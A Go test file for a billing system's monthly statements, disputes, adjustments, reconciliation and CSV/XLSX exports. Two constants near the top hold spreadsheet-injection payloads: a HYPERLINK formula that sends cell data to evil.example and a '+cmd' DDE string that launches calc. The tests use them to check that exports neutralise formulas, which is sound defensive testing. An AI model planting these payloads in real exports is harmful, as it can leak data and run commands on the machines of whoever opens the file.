package billing_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/uptrace/bun"
	"github.com/xuri/excelize/v2"

	"github.com/tiski/tiski/billing"
	"github.com/tiski/tiski/db"
	"github.com/tiski/tiski/db/dbtest"
	"github.com/tiski/tiski/export"
	"github.com/tiski/tiski/money"
	"github.com/tiski/tiski/requests"
)

const (
	hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	plusCmd   = `+cmd|' /C calc'!A0`
)

// monthBooks is a month of statements: Marketing (chargeback) and Legal
// (showback) order licences from IT in November 2026; one of Marketing's
// charges is credited in part, one is disputed and rejected, one belongs to
// October.
type monthBooks struct {
	*books
	legal                       int64 // on showback
	injected, credited, plain   billing.Charge
	october, showback           billing.Charge
	creditDispute, showbackDisp *billing.Dispute
}

var november = time.Date(2026, 11, 10, 10, 0, 0, 0, time.UTC)

func newMonthBooks(t *testing.T, d *db.DB) *monthBooks {
	t.Helper()
	m := &monthBooks{books: newBooks(t, d, "")}
	m.legal = m.Units.LEGAL
	m.injected = m.chargeTitled(t, m.consumer, hyperlink, "3", november)
	m.credited = m.chargeTitled(t, m.consumer, plusCmd, "2", november.Add(time.Hour))
	m.plain = m.chargeTitled(t, m.consumer, "Docking stations", "1", november.Add(2*time.Hour))
	m.october = m.chargeTitled(t, m.consumer, "October laptop", "1", time.Date(2026, 10, 5, 10, 0, 0, 0, time.UTC))
	m.showback = m.chargeTitled(t, m.legal, "Legal licences", "2", november.Add(3*time.Hour))
	settled := time.Date(2026, 12, 3, 9, 0, 0, 0, time.UTC) // after November, which is still open
	m.creditDispute = m.settle(t, m.credited.ID, "accept", 33333, "one was returned", settled)
	m.settle(t, m.plain.ID, "reject", 0, "delivered as ordered", settled)
	m.showbackDisp = m.settle(t, m.showback.ID, "accept", 10000, "scratched", settled)
	return m
}

// chargeTitled files a request titled title for consumer and charges it.
func (m *monthBooks) chargeTitled(t *testing.T, consumer int64, title, quantity string, at time.Time) billing.Charge {
	t.Helper()
	ctx := context.Background()
	r := &requests.Request{ServiceID: m.service, ConsumerUnitID: consumer, ProviderUnitID: m.provider, RequesterID: m.user,
		CreatedBy: m.user, Title: title, Quantity: quantity, FieldsJSON: "{}", Channel: "portal", Status: requests.Resolved,
		Version: 1, RateID: m.rate, PricingModel: "per_unit", UnitPriceMinor: 33333, Currency: "EUR",
		SLAFirstResponseMinutes: 60, SLAResolutionMinutes: 600, CreatedAt: at, UpdatedAt: at}
	if _, err := m.d.NewInsert().Model(r).Returning("id").Exec(ctx); err != nil {
		t.Fatal(err)
	}
	var charges []billing.Charge
	err := m.tx(t, func(ctx context.Context, tx bun.Tx) (err error) {
		charges, err = billing.ChargeFulfilment(ctx, tx, billing.Fulfilment{RequestID: r.ID, Number: requests.Number(r.ID), Title: title,
			ConsumerUnitID: consumer, ProviderUnitID: m.provider, ServiceID: m.service, RateID: m.rate, PricingModel: "per_unit",
			Quantity: quantity, UnitPriceMinor: 33333, Currency: "EUR", ResolvedAt: at, ActorID: m.user}, helsinki)
		return err
	})
	if err != nil || len(charges) != 1 {
		t.Fatalf("charge %q: %v %v", title, charges, err)
	}
	return charges[0]
}

func (m *monthBooks) settle(t *testing.T, chargeID int64, action string, credit int64, note string, at time.Time) *billing.Dispute {
	t.Helper()
	var d *billing.Dispute
	err := m.tx(t, func(ctx context.Context, tx bun.Tx) error {
		raised, err := billing.RaiseDispute(ctx, tx, billing.Operator(m.user), chargeID, "not what we ordered", at)
		if err != nil {
			return err
		}
		d, err = billing.SettleDispute(ctx, tx, billing.Operator(m.user), billing.Settlement{DisputeID: raised.ID, Action: action, CreditMinor: credit, Note: note}, helsinki, at)
		return err
	})
	if err != nil {
		t.Fatalf("%s dispute on charge %d: %v", action, chargeID, err)
	}
	return d
}

func collectLines(t *testing.T, d *db.DB, side billing.Side, unitID int64, month string) []billing.StatementLine {
	t.Helper()
	var lines []billing.StatementLine
	for l, err := range billing.StatementLines(context.Background(), d, side, unitID, month) {
		if err != nil {
			t.Fatal(err)
		}
		lines = append(lines, l)
	}
	return lines
}

func eurAmount(minor int64) string { return money.Money{Minor: minor, Currency: "EUR"}.Amount() }

func TestStatementLinesAndTotals(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		m := newMonthBooks(t, d)
		ctx := context.Background()

		lines := collectLines(t, d, billing.ConsumerSide, m.consumer, "2026-11")
		if len(lines) != 3 || lines[0].ChargeID != m.injected.ID || lines[1].ChargeID != m.credited.ID || lines[2].ChargeID != m.plain.ID {
			t.Fatalf("November lines of Marketing = %+v", lines)
		}
		l := lines[1]
		if l.Title != plusCmd || l.ServiceCode != "LICENCE" || l.ServiceName != "Software licence" || l.Quantity != "2" ||
			l.UnitPriceMinor != 33333 || l.AmountMinor != 66666 || l.Status != billing.ChargeCredited || l.Showback ||
			l.DisputeStatus == nil || *l.DisputeStatus != billing.DisputeAccepted || l.CreditMinor != 33333 ||
			l.RequestNumber() != requests.Number(*l.RequestID) || l.ConsumerUnitCode != "MKT" || l.ProviderUnitCode != "IT" {
			t.Fatalf("credited line = %+v", l)
		}
		if r := lines[2]; r.DisputeStatus == nil || *r.DisputeStatus != billing.DisputeRejected || r.CreditMinor != 0 || r.NetMinor() != 33333 {
			t.Fatalf("rejected line = %+v", r)
		}
		if lines[0].DisputeStatus != nil || lines[0].CreditMinor != 0 {
			t.Fatalf("undisputed line = %+v", lines[0])
		}

		totals, err := billing.SumStatement(ctx, d, billing.ConsumerSide, m.consumer, "2026-11", "EUR")
		if err != nil {
			t.Fatal(err)
		}
		var charged, credited int64
		for _, l := range lines {
			charged += l.AmountMinor
			credited += l.CreditMinor
		}
		want := billing.StatementTotals{Lines: 3, ChargedMinor: 99999 + 66666 + 33333, CreditedMinor: 33333,
			NetMinor: 99999 + 66666 + 33333 - 33333, Currency: "EUR"}
		if totals != want || charged != want.ChargedMinor || credited != want.CreditedMinor {
			t.Fatalf("totals = %+v, want %+v (lines sum to %d/%d)", totals, want, charged, credited)
		}

		// The provider's recovery view has Legal's showback charge too, which it
		// shows but does not recover.
		recovery := collectLines(t, d, billing.ProviderSide, m.provider, "2026-11")
		if len(recovery) != 4 || !recovery[3].Showback || recovery[3].ConsumerUnitCode != "LEGAL" {
			t.Fatalf("recovery lines = %+v", recovery)
		}
		rt, err := billing.SumStatement(ctx, d, billing.ProviderSide, m.provider, "2026-11", "EUR")
		if err != nil {
			t.Fatal(err)
		}
		if rt.ChargedMinor != want.ChargedMinor+66666 || rt.CreditedMinor != 33333+10000 || rt.ShowbackNet != 66666-10000 ||
			rt.RecoveredMinor() != want.NetMinor {
			t.Fatalf("recovery totals = %+v", rt)
		}
		legal := collectLines(t, d, billing.ConsumerSide, m.legal, "2026-11")
		if len(legal) != 1 || !legal[0].Showback || legal[0].AmountMinor != 66666 {
			t.Fatalf("Legal's statement = %+v", legal)
		}

		empty, err := billing.SumStatement(ctx, d, billing.ConsumerSide, m.consumer, "2027-01", "EUR")
		if err != nil || empty != (billing.StatementTotals{Currency: "EUR"}) {
			t.Fatalf("empty month totals = %+v, %v", empty, err)
		}
	})
}

func TestStatementCSVParsesBackAndIsInert(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		m := newMonthBooks(t, d)
		var buf bytes.Buffer
		w := export.NewCSV(&buf)
		totals, err := billing.WriteStatement(context.Background(), d, w, billing.ConsumerSide, m.consumer, "2026-11", "EUR")
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("statement CSV does not parse: %v", err)
		}
		if len(records) != 1+3+1 || strings.Join(records[0], ",") != strings.Join(billing.StatementColumns, ",") {
			t.Fatalf("records = %q", records)
		}
		col := columnIndex(billing.StatementColumns)
		lines := collectLines(t, d, billing.ConsumerSide, m.consumer, "2026-11")
		for i, l := range lines {
			rec := records[1+i]
			if rec[col["charge_id"]] != fmt.Sprint(l.ChargeID) || rec[col["unit_price"]] != eurAmount(l.UnitPriceMinor) ||
				rec[col["amount"]] != eurAmount(l.AmountMinor) || rec[col["credit"]] != eurAmount(l.CreditMinor) ||
				rec[col["net"]] != eurAmount(l.NetMinor()) || rec[col["request_number"]] != l.RequestNumber() {
				t.Errorf("row %d = %q, line %+v", i, rec, l)
			}
		}
		if got := records[1][col["title"]]; got != "'"+hyperlink {
			t.Errorf("formula title written as %q", got)
		}
		if got := records[2][col["title"]]; got != "'"+plusCmd {
			t.Errorf("+cmd title written as %q", got)
		}
		if got := records[3][col["title"]]; got != "Docking stations" {
			t.Errorf("plain title written as %q", got)
		}
		var sum, credits int64
		for _, rec := range records[1:4] {
			sum += parseAmount(t, rec[col["amount"]])
			credits += parseAmount(t, rec[col["credit"]])
		}
		total := records[4]
		if total[col["charge_id"]] != "total" || parseAmount(t, total[col["amount"]]) != sum || sum != totals.ChargedMinor ||
			parseAmount(t, total[col["credit"]]) != credits || parseAmount(t, total[col["net"]]) != sum-credits {
			t.Fatalf("total row %q, amounts sum to %d, credits %d", total, sum, credits)
		}
	})
}

func TestStatementXLSX(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		m := newMonthBooks(t, d)
		var buf bytes.Buffer
		w, err := export.NewXLSX(&buf, "Statement")
		if err != nil {
			t.Fatal(err)
		}
		if _, err := billing.WriteStatement(context.Background(), d, w, billing.ProviderSide, m.provider, "2026-11", "EUR"); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatalf("the workbook does not open: %v", err)
		}
		defer f.Close()
		rows, err := f.GetRows("Statement", excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 1+4+1 || rows[0][0] != "charge_id" || rows[5][0] != "total" {
			t.Fatalf("rows = %q", rows)
		}
		col := columnIndex(billing.StatementColumns)
		if rows[1][col["title"]] != "'"+hyperlink || rows[2][col["title"]] != "'"+plusCmd {
			t.Errorf("titles = %q, %q", rows[1][col["title"]], rows[2][col["title"]])
		}
		amount, _ := excelize.CoordinatesToCellName(col["amount"]+1, 3)
		if typ, err := f.GetCellType("Statement", amount); err != nil || typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
			t.Errorf("amount cell type = %v, %v", typ, err)
		}
		if v, _ := f.GetCellValue("Statement", amount, excelize.Options{RawCellValue: true}); v != "666.66" {
			t.Errorf("amount cell = %q", v)
		}
		if v, _ := f.GetCellValue("Statement", amount); v != "666.66" {
			t.Errorf("formatted amount cell = %q", v)
		}
		title, _ := excelize.CoordinatesToCellName(col["title"]+1, 2)
		if formula, _ := f.GetCellFormula("Statement", title); formula != "" {
			t.Errorf("a title became the formula %q", formula)
		}
		if v := rows[5][col["amount"]]; v != eurAmount(99999+66666+33333+66666) {
			t.Errorf("total amount = %q", v)
		}
	})
}

// heapSampler passes rows on and, every sampleEvery rows, measures the live
// heap after a collection, keeping the peak.
type heapSampler struct {
	export.Writer
	rows, peak uint64
}

const sampleEvery = 1000

func liveHeap() uint64 {
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	return ms.HeapAlloc
}

func (h *heapSampler) Write(row []export.Cell) error {
	if h.rows++; h.rows%sampleEvery == 0 {
		h.peak = max(h.peak, liveHeap())
	}
	return h.Writer.Write(row)
}

// countingDiscard counts the bytes of a file without keeping them.
type countingDiscard struct{ n int64 }

func (c *countingDiscard) Write(p []byte) (int, error) { c.n += int64(len(p)); return len(p), nil }

// TestExportsStream writes 20,000 charges and their entries and checks that
// exporting them never holds the file in memory: the live heap grows by
// less than half of what is written. The engines run one after the other
// so that no other test's allocations are measured.
func TestExportsStream(t *testing.T) {
	const n = 20000
	for _, engine := range dbtest.Engines() {
		t.Run(string(engine), func(t *testing.T) {
			d := dbtest.Open(t, engine)
			m := &monthBooks{books: newBooks(t, d, "")}
			first := m.chargeTitled(t, m.consumer, "seed", "1", november) // opens both accounts
			ctx := context.Background()
			bulk := []string{
				`INSERT INTO journal_entries (idempotency_key, period, entry_date, kind, memo, created_at)
				 WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)
				 SELECT 'bulk:' || CAST(i AS TEXT), '2026-11', '2026-11-15', 'charge', '=bulk memo ' || CAST(i AS TEXT), ? FROM n`,
				`INSERT INTO postings (entry_id, account_id, amount_minor, currency)
				 SELECT e.id, a.id, 1000 + e.id, 'EUR' FROM journal_entries e, accounts a
				 WHERE e.idempotency_key LIKE 'bulk:%' AND a.unit_id = ?`,
				`INSERT INTO postings (entry_id, account_id, amount_minor, currency)
				 SELECT e.id, a.id, -(1000 + e.id), 'EUR' FROM journal_entries e, accounts a
				 WHERE e.idempotency_key LIKE 'bulk:%' AND a.unit_id = ?`,
				`INSERT INTO journal_entry_seals (entry_id) SELECT id FROM journal_entries WHERE idempotency_key LIKE 'bulk:%'`,
				`INSERT INTO charges (source_key, request_id, consumer_unit_id, provider_unit_id, service_id, rate_id, period,
				   quantity, unit_price_minor, amount_minor, currency, status, showback, entry_id, description, created_at)
				 SELECT e.idempotency_key, ?, ?, ?, ?, ?, '2026-11', '1', 1000 + e.id, 1000 + e.id, 'EUR', 'posted', FALSE, e.id,
				   '+bulk charge', e.created_at
				 FROM journal_entries e WHERE e.idempotency_key LIKE 'bulk:%'`,
			}
			args := [][]any{{n, november}, {m.consumer}, {m.provider}, nil,
				{*first.RequestID, m.consumer, m.provider, m.service, m.rate}}
			// One transaction: an entry commits only sealed, with its postings.
			if err := d.InTx(ctx, func(tx bun.Tx) error {
				for i, q := range bulk {
					if _, err := tx.NewRaw(q, args[i]...).Exec(ctx); err != nil {
						return fmt.Errorf("bulk insert %d: %w", i, err)
					}
				}
				return nil
			}); err != nil {
				t.Fatal(err)
			}

			exports := []struct {
				name  string
				write func(w export.Writer) error
			}{
				{"statement", func(w export.Writer) error {
					_, err := billing.WriteStatement(ctx, d, w, billing.ConsumerSide, m.consumer, "2026-11", "EUR")
					return err
				}},
				{"journal", func(w export.Writer) error { return billing.WriteJournal(ctx, d, w, "2026-11") }},
			}
			for _, e := range exports {
				out := &countingDiscard{}
				csvw := export.NewCSV(out)
				sampler := &heapSampler{Writer: csvw}
				before := liveHeap()
				if err := e.write(sampler); err != nil {
					t.Fatal(err)
				}
				if err := csvw.Close(); err != nil {
					t.Fatal(err)
				}
				if sampler.rows < n {
					t.Fatalf("%s: %d rows", e.name, sampler.rows)
				}
				growth := int64(sampler.peak) - int64(before)
				t.Logf("%s: %d rows, %d bytes, live heap grew by at most %d bytes", e.name, sampler.rows, out.n, growth)
				if growth > out.n/2 {
					t.Errorf("%s: the live heap grew by %d bytes while writing %d: the export is held in memory", e.name, growth, out.n)
				}
			}
		})
	}
}

func columnIndex(columns []string) map[string]int {
	idx := map[string]int{}
	for i, c := range columns {
		idx[c] = i
	}
	return idx
}

func parseAmount(t *testing.T, s string) int64 {
	t.Helper()
	if s == "" {
		return 0
	}
	m, err := money.ParseDecimalAmount(s, "EUR")
	if err != nil {
		t.Fatalf("amount %q: %v", s, err)
	}
	return m.Minor
}

// TestStatementShowsAdjustmentsAndCreditsAndReconciles is finding 12.4: a
// statement listed charges only, so its net (142.00) disagreed with the
// unit's GL movement (154.34). It now lists the month's credits and
// adjustments with their reasons, and net equals the movement.
func TestStatementShowsAdjustmentsAndCreditsAndReconciles(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		m := newMonthBooks(t, d)
		ctx := context.Background()
		digital := m.chargeTitled(t, m.Units.MKTDigital, "Team licences", "1", november.Add(4*time.Hour))
		var adj *billing.Adjustment
		if err := m.tx(t, func(ctx context.Context, tx bun.Tx) (err error) {
			adj, err = billing.CreateAdjustment(ctx, tx, billing.Operator(m.user), billing.Adjustment{DebitUnitID: m.consumer,
				CreditUnitID: m.Units.FIN, AmountMinor: 5000, Currency: "EUR", Month: "2026-11", Reason: "Catering for the offsite"},
				100000, helsinki, time.Date(2026, 12, 3, 9, 0, 0, 0, time.UTC))
			return err
		}); err != nil {
			t.Fatal(err)
		}

		moves, err := billing.StatementMovements(ctx, d, billing.ConsumerSide, m.consumer, "2026-11")
		if err != nil {
			t.Fatal(err)
		}
		if len(moves) != 2 || moves[0].Kind != billing.MovementCredit || moves[0].AmountMinor != -33333 ||
			moves[0].ChargeID == nil || *moves[0].ChargeID != m.credited.ID || moves[0].SourceID != m.creditDispute.ID ||
			moves[0].EntryID != *m.creditDispute.EntryID || moves[0].Reason != "not what we ordered — one was returned" ||
			moves[1].Kind != billing.MovementAdjustment || moves[1].AmountMinor != 5000 || moves[1].SourceID != adj.ID ||
			moves[1].EntryID != *adj.EntryID || moves[1].Reason != "Catering for the offsite" {
			t.Fatalf("Marketing's November movements = %+v", moves)
		}
		fin, err := billing.StatementMovements(ctx, d, billing.ConsumerSide, m.Units.FIN, "2026-11")
		if err != nil || len(fin) != 1 || fin[0].AmountMinor != -5000 {
			t.Fatalf("Finance's November movements = %+v, %v", fin, err)
		}
		recovery, err := billing.StatementMovements(ctx, d, billing.ProviderSide, m.provider, "2026-11")
		if err != nil || len(recovery) != 2 || recovery[0].AmountMinor != -33333 || recovery[1].AmountMinor != -10000 || !recovery[1].Showback {
			t.Fatalf("IT's November recovery movements = %+v, %v", recovery, err)
		}

		totals, err := billing.SumStatement(ctx, d, billing.ConsumerSide, m.consumer, "2026-11", "EUR")
		if err != nil {
			t.Fatal(err)
		}
		if want := (billing.StatementTotals{Lines: 3, ChargedMinor: 3 * 33333 * 2, CreditedMinor: 33333, AdjustedMinor: 5000,
			NetMinor: 3*33333*2 - 33333 + 5000, Currency: "EUR"}); totals != want {
			t.Fatalf("totals = %+v, want %+v", totals, want)
		}
		// The statement file lists the adjustment as a row of its own, so
		// its rows' nets add up to the total row's net.
		var buf bytes.Buffer
		w := export.NewCSV(&buf)
		if _, err := billing.WriteStatement(ctx, d, w, billing.ConsumerSide, m.consumer, "2026-11", "EUR"); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := columnIndex(billing.StatementColumns)
		var rowsNet int64
		adjustments := 0
		for _, rec := range records[1 : len(records)-1] {
			rowsNet += parseAmount(t, rec[col["net"]])
			if rec[col["charge_id"]] == "adjustment" {
				adjustments++
				if rec[col["title"]] != "Catering for the offsite" || parseAmount(t, rec[col["amount"]]) != 5000 {
					t.Errorf("adjustment row %q", rec)
				}
			}
		}
		if last := records[len(records)-1]; adjustments != 1 || last[col["charge_id"]] != "total" ||
			parseAmount(t, last[col["net"]]) != totals.NetMinor || rowsNet != totals.NetMinor {
			t.Fatalf("statement file: %d adjustment rows, rows' nets %d, total row %q, statement net %d", adjustments, rowsNet, last, totals.NetMinor)
		}

		for _, u := range []int64{m.consumer, m.Units.MKTDigital, m.provider, m.Units.FIN, m.legal, m.Units.HQ} {
			for _, month := range []string{"2026-10", "2026-11"} {
				r, err := billing.Reconcile(ctx, d, u, month, "EUR")
				if err != nil || !r.Agrees() {
					t.Fatalf("unit %d in %s: %+v, %v", u, month, r, err)
				}
			}
		}
		r, err := billing.Reconcile(ctx, d, m.consumer, "2026-11", "EUR")
		if err != nil || r.LedgerMinor != totals.NetMinor || r.GLMinor != totals.NetMinor {
			t.Fatalf("Marketing's November books %+v, statement net %d", r, totals.NetMinor)
		}

		// The parent's statement rolls up its team, with a subtotal each.
		parts, sum, err := billing.RollUp(ctx, d, billing.ConsumerSide, m.consumer, "2026-11", "EUR")
		if err != nil {
			t.Fatal(err)
		}
		if len(parts) != 2 || parts[0].UnitID != m.consumer || parts[0].Totals != totals || parts[1].UnitID != m.Units.MKTDigital ||
			parts[1].Totals.ChargedMinor != digital.AmountMinor || parts[1].Totals.Lines != 1 ||
			sum.NetMinor != totals.NetMinor+digital.AmountMinor || sum.Lines != 4 {
			t.Fatalf("Marketing's roll-up = %+v, total %+v", parts, sum)
		}
		// The group's recovery view likewise: IT recovers, the rest nothing.
		parts, sum, err = billing.RollUp(ctx, d, billing.ProviderSide, m.Units.HQ, "2026-11", "EUR")
		if err != nil {
			t.Fatal(err)
		}
		itRecovery, err := billing.SumStatement(ctx, d, billing.ProviderSide, m.provider, "2026-11", "EUR")
		if err != nil || len(parts) < 3 || parts[0].UnitID != m.Units.HQ || sum.NetMinor != itRecovery.NetMinor || sum.Lines != itRecovery.Lines || sum.ShowbackNet != itRecovery.ShowbackNet {
			t.Fatalf("the group's recovery roll-up = %+v, total %+v, IT's %+v (%v)", parts, sum, itRecovery, err)
		}
	})
}
